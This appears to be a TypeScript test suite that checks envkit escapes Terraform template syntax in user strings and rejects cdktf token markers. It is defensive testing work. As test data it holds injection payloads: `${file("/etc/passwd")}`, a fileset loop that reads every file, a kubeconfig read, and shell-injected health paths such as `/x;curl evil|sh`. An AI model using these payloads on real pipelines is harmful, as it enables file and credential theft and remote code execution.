import * as fc from "fast-check";
import { EnvkitError } from "../../lib/errors";
import { App, TerraformStack } from "../../lib/facade/cdktf";
import { EnvironmentModel } from "../../lib/model/environment";
import { inertModel, terraformLiteral } from "../../lib/targets/shared/terraform-literal";
import { configureBackend } from "../../stacks/environment-stack";
import { dockerEnv, k8sEnv, miniApp, referenceEnvironments, resolve, resolveOne, synthJson } from "../helpers";
import { liveOpeners, templateLiteralValue } from "./hcl-template";
import { Emitted, FIELDS, HostileInputs, everywhere, hostileString, synthHostile } from "./hostile-fields";

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

/*
 * Issue 9 §1: Terraform evaluates `${…}` and `%{…}` in every string of cdk.tf.json. A user string
 * must reach Terraform as a literal, on every target and in every field.
 */

/** Every emitted string is a literal: no live opener, and its literal value is what envkit meant. */
function expectInert(list: readonly Emitted[]): void {
  for (const e of list) {
    expect({ where: e.where, live: liveOpeners(e.emitted) }).toEqual({ where: e.where, live: [] });
    expect({ where: e.where, value: templateLiteralValue(e.emitted) }).toEqual({ where: e.where, value: e.intended });
  }
}

function emittedAt(list: readonly Emitted[], where: string): Emitted {
  const e = list.find((x) => x.where === where);
  if (!e) throw new Error(`no emitted string at ${where}`);
  return e;
}

/** Every string (values and keys) of a stack outside cdktf's `//` metadata, which Terraform ignores. */
function allStrings(value: unknown, out: string[] = []): string[] {
  if (typeof value === "string") out.push(value);
  else if (Array.isArray(value)) for (const v of value) allStrings(v, out);
  else if (value !== null && typeof value === "object") {
    for (const [k, v] of Object.entries(value)) {
      if (k === "//") continue;
      out.push(k);
      allStrings(v, out);
    }
  }
  return out;
}

/** A whole-string reference envkit itself writes: `${var.x}`, `${type.id.attr[0].name}`. */
const ENVKIT_REFERENCE = /^\$\{(var|docker_[a-z_]+|kubernetes_[a-z0-9_]+)\.[A-Za-z0-9_.\-[\]]+\}$/;

describe("terraformLiteral", () => {
  it.each([
    ["${x}", "$${x}"],
    ["%{x}", "%%{x}"],
    ["$${x}", "$$${x}"],
    ["%%{x}", "%%%{x}"],
    ["${${", "$${$${"],
    ["$%{", "$%%{"],
    ["%${", "%$${"],
    ["$$", "$$"],
    ["a{b}$", "a{b}$"],
    ["", ""],
  ])("escapes %j as %j", (input, output) => {
    expect(terraformLiteral(input)).toBe(output);
  });

  it("round-trips every string through HCL's template unescaping (the escape is exact)", () => {
    fc.assert(
      fc.property(fc.oneof(hostileString, fc.string({ unit: "binary" })), (s) => {
        expect(templateLiteralValue(terraformLiteral(s))).toBe(s);
      }),
      { numRuns: 3000 },
    );
  });

  it("never leaves a live ${ or %{ opener, whatever the input", () => {
    fc.assert(
      fc.property(hostileString, (s) => {
        expect(liveOpeners(terraformLiteral(s))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it("is the identity on strings without a template opener (names, images and paths are unchanged)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (s) => {
        fc.pre(!/[$%]\{/.test(s));
        expect(terraformLiteral(s)).toBe(s);
      }),
    );
  });
});

describe("synthesized stacks carry user strings as literals", () => {
  it("arbitrary strings in every field, on Docker and Kubernetes, evaluate to exactly the input", () => {
    fc.assert(
      fc.property(fc.record(Object.fromEntries(FIELDS.map((f) => [f, hostileString])) as Record<keyof HostileInputs, fc.Arbitrary<string>>), (inputs) => {
        expectInert(synthHostile(inputs).emitted);
      }),
      { numRuns: 25 },
    );
  });

  it('${file("/etc/passwd")} in an env value cannot read the CI runner\'s files (Docker and Kubernetes)', () => {
    const attack = '${file("/etc/passwd")}';
    const { emitted } = synthHostile({ ...everywhere("x"), env: attack });
    expect(emittedAt(emitted, "docker env").emitted).toBe('EVIL=$${file("/etc/passwd")}');
    expect(emittedAt(emitted, "kubernetes config map data (env)").emitted).toBe('$${file("/etc/passwd")}');
    expectInert(emitted);
  });

  it("${var.db_password} in a Docker env var does not copy the secret into a plain env var", () => {
    const app = miniApp();
    app.services.api = { ...app.services.api, secrets: ["db_password"], env: { EVIL: "${var.db_password}" } };
    const json = synthJson([resolveOne(app, "dev", dockerEnv())]).get("dev")!;
    const live = allStrings(json).filter((s) => s.includes("var.db_password") && liveOpeners(s).length > 0);
    // The only live reference is envkit's own upload of the secret file.
    expect(live).toEqual(["${var.db_password}"]);
    // The secret files' uploads (the envkit proxy's seed uploads its generated configuration too).
    const upload = Object.values(json.resource.docker_container as Record<string, Json>).flatMap((c) => (c.upload ?? []) as Json[]).filter((u) => String(u.file).startsWith("/run/secrets/"));
    expect(upload.map((u) => u.content)).toEqual(["${var.db_password}"]);
    const env = Object.values(json.resource.docker_container as Record<string, Json>).flatMap((c) => c.env as string[]);
    expect(env).toContain("EVIL=$${var.db_password}");
  });

  it("a %{ for … } directive in a command and in args is not run (Docker and Kubernetes)", () => {
    const attack = '%{ for f in fileset("/", "*") }${file(f)}%{ endfor }';
    expectInert(synthHostile({ ...everywhere("x"), command: attack, args: attack }).emitted);
  });

  it("a directive and an interpolation in a health command are not run (Docker and Kubernetes)", () => {
    expectInert(synthHostile({ ...everywhere("x"), healthCommand: '%{ if true }${file("/etc/shadow")}%{ endif }' }).emitted);
  });

  it("${…} or shell metacharacters in an HTTP health path are refused by validation (it becomes a Docker CMD-SHELL)", () => {
    for (const path of ["/healthz${path.cwd}", "/x;curl evil|sh", "/$(id)", "/a'b"]) {
      const app = miniApp();
      app.services.web = { ...app.services.web, health: { http: { path, port: "http" } } };
      const r = resolve(app, { dev: dockerEnv() });
      expect(r.issues.map((i) => `${i.path}: ${i.message}`).join("\n")).toMatch(/services\.web\.health\.http\.path: must start with "\/" and use only URL path characters/);
    }
  });

  it("${…} in a writable path stays literal where it becomes a JSON object key (Docker tmpfs)", () => {
    const { emitted } = synthHostile({ ...everywhere("x"), writablePath: "${path.cwd}" });
    expect(emittedAt(emitted, "docker tmpfs key (writablePaths)").emitted).toBe("/w$${path.cwd}");
    expectInert(emitted);
  });

  it("docker.host, docker.certPath and docker.secretsHostDir cannot interpolate into the provider or mounts", () => {
    expectInert(synthHostile({ ...everywhere("x"), dockerHost: '${file("/etc/hostname")}:2376', certPath: "${path.cwd}/certs", secretsHostDir: "%{ if true }etc%{ endif }" }).emitted);
  });

  it("kubernetes.context, kubernetes.configPath and kubernetes.ingressClassName cannot interpolate", () => {
    expectInert(synthHostile({ ...everywhere("x"), context: '${file("~/.kube/config")}', configPath: "${path.root}/kubeconfig", ingressClassName: "%{ if true }nginx%{ endif }" }).emitted);
  });

  it("${…} in a storage class is not evaluated", () => {
    expectInert(synthHostile({ ...everywhere("x"), storageClass: "${var.api_token}" }).emitted);
  });

  it("already-escaped input ($${already}, %%{already}) keeps its meaning instead of collapsing", () => {
    const { emitted } = synthHostile(everywhere("$${already}%%{already}"));
    expect(emittedAt(emitted, "kubernetes container command").emitted).toBe("$$${already}%%%{already}");
    expectInert(emitted);
  });

  it("a hostile stack has no live template at all except envkit's own whole-string references", () => {
    const { stacks } = synthHostile(everywhere('${file("/etc/passwd")}%{ if true }x%{ endif }'));
    for (const json of stacks.values()) {
      const live = allStrings(json).filter((s) => liveOpeners(s).length > 0);
      expect(live.length).toBeGreaterThan(0); // envkit's references (images, namespace, secrets) are live
      expect(live.filter((s) => !ENVKIT_REFERENCE.test(s))).toEqual([]);
    }
  });
});

describe("inertModel", () => {
  const model = (): EnvironmentModel => resolveOne(miniApp(), "dev", dockerEnv()).model;
  const withEnv = (m: EnvironmentModel, value: string): EnvironmentModel => ({
    ...m,
    services: m.services.map((s) => (s.name === "api" ? { ...s, env: { ...s.env, EVIL: value } } : s)),
  });

  it("is the identity for the reference application (no snapshot can change)", () => {
    for (const e of referenceEnvironments()) expect(inertModel(e.model)).toEqual(e.model);
  });

  it("escapes a copy and leaves the caller's model, effective and backend untouched", () => {
    const m = withEnv(model(), "${x}");
    const m2 = { ...m, backend: { type: "local" as const, path: "a${b}" }, effective: { e: "${y}" } };
    const inert = inertModel(m2);
    expect(inert.services.find((s) => s.name === "api")!.env.EVIL).toBe("$${x}");
    expect(m2.services.find((s) => s.name === "api")!.env.EVIL).toBe("${x}");
    expect(inert.backend).toBe(m2.backend);
    expect(inert.effective).toBe(m2.effective);
  });

  it("never escapes twice: the inert copy passed through inertModel again is returned as is", () => {
    const inert = inertModel(withEnv(model(), "${x}"));
    expect(inertModel(inert)).toBe(inert);
    expect(inert.services.find((s) => s.name === "api")!.env.EVIL).toBe("$${x}");
  });

  it("rejects cdktf's token marker in a model string, naming the path (a user string must not resolve to the secret variable)", () => {
    expect(() => inertModel(withEnv(model(), "${TfToken[TOKEN.1]}"))).toThrow(EnvkitError);
    expect(() => inertModel(withEnv(model(), "x#{TfToken[TOKEN.7]}"))).toThrow(/^services\.api\.env\.EVIL: environment "dev": "x#\{TfToken\[TOKEN\.7\]\}" contains "TfToken\[", cdktf's token marker.*remove it$/);
  });

  it("rejects the text of a cdktf number token in a string, and a token-encoded number", () => {
    const view = new DataView(new ArrayBuffer(8));
    view.setUint32(0, 0xfdff0000);
    view.setUint32(4, 3);
    const tokenNumber = view.getFloat64(0);
    expect(() => inertModel(withEnv(model(), `port ${tokenNumber}`))).toThrow(/^services\.api\.env\.EVIL: .*the text of a cdktf number token/);
    const m = model();
    const bad = { ...m, services: m.services.map((s) => (s.name === "web" ? { ...s, replicas: tokenNumber } : s)) };
    expect(() => inertModel(bad)).toThrow(/^services\.web\.replicas: environment "dev": .* is the encoding of a cdktf token/);
  });

  it("rejects cdktf's reserved map-token strings, which would crash synthesis", () => {
    expect(() => inertModel(withEnv(model(), "String Map Token Value"))).toThrow(/services\.api\.env\.EVIL: .*reserves for map tokens/);
  });

  it("reports every offending path at once", () => {
    const m = withEnv(model(), "${TfToken[TOKEN.1]}");
    const bad = { ...m, targetOptions: { ...m.targetOptions, certPath: "${TfToken[TOKEN.2]}" } };
    try {
      inertModel(bad);
      throw new Error("no error");
    } catch (e) {
      expect((e as EnvkitError).issues.map((i) => i.path).sort()).toEqual(["docker.certPath", "services.api.env.EVIL"]);
    }
  });

  it("every target lowers the inert model (a synth through the registry refuses a token marker)", () => {
    const m = withEnv(model(), "${TfToken[TOKEN.1]}");
    expect(() => synthJson([{ ...resolveOne(miniApp(), "dev", dockerEnv()), model: m }])).toThrow(/services\.api\.env\.EVIL: .*TfToken/);
    const kube = resolveOne(miniApp(), "kube", k8sEnv({ policy: { enforcement: "advisory" } }));
    const km = { ...kube.model, targetOptions: { ...kube.model.targetOptions, context: "${TfToken[TOKEN.1]}" } };
    expect(() => synthJson([{ ...kube, model: km }])).toThrow(/kubernetes\.context: .*TfToken/);
  });
});

describe("configureBackend", () => {
  const stack = (): TerraformStack => new TerraformStack(new App(), "prod");

  it.each([
    ["s3 bucket with ${…}", { type: "s3" as const, bucket: '${file("/etc/passwd")}', key: "k", region: "eu-west-1" }, "backend.bucket"],
    ["gcs prefix with %{…}", { type: "gcs" as const, bucket: "b", prefix: "%{ if true }p%{ endif }" }, "backend.prefix"],
    ["local path with ${…}", { type: "local" as const, path: "${path.cwd}/state" }, "backend.path"],
    ["remote workspace with a cdktf token", { type: "remote" as const, organization: "acme", workspace: "x-TfToken[TOKEN.1]" }, "backend.workspace"],
  ])("rejects a %s, naming the field", (_name, backend, path) => {
    expect(() => configureBackend(stack(), backend)).toThrow(new RegExp(`^${path.replace(".", "\\.")}: environment "prod": .* contains "\\$\\{", "%\\{" or "TfToken\\[".*remove it$`));
  });

  it("accepts a lone $ or % (only template openers are refused)", () => {
    expect(() => configureBackend(stack(), { type: "s3", bucket: "cost$-100%", key: "a{b}", region: "eu-west-1" })).not.toThrow();
  });
});
